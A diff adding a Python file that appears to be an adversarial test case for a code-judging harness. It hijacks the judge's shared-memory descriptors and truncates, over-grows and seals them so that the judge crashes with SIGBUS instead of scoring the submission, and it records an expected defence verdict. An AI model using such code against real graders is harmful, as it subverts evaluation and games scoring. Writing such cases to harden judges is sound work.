@@ -1,0 +1,33 @@
+"""Takes the memory away from under the judge.
+
+Mechanism: keeps the descriptors of the shared memory, and shrinks it, grows it without end and seals it, so
+  that the judge faults where it reads.
+Surface: memory that two processes share.
+Gain: a judge that is ended by SIGBUS: not the student's fault.
+Challenge: twice
+Defence: wrong_answer
+"""
+
+import contextlib
+import fcntl
+import os
+
+import protocol
+
+kept = []
+protocol.close_all = kept.extend
+SEALS = (8, 4, 2, 1, 16)
+
+
+def solve(x, out, n):
+    for descriptor in kept:
+        for change in (
+            lambda it: os.ftruncate(it, 0),
+            lambda it: os.ftruncate(it, 1 << 40),
+            lambda it: os.posix_fallocate(it, 0, 1 << 31),
+        ):
+            with contextlib.suppress(OSError):
+                change(descriptor)
+        for seal in SEALS:
+            with contextlib.suppress(OSError):
+                fcntl.fcntl(descriptor, fcntl.F_ADD_SEALS, seal)
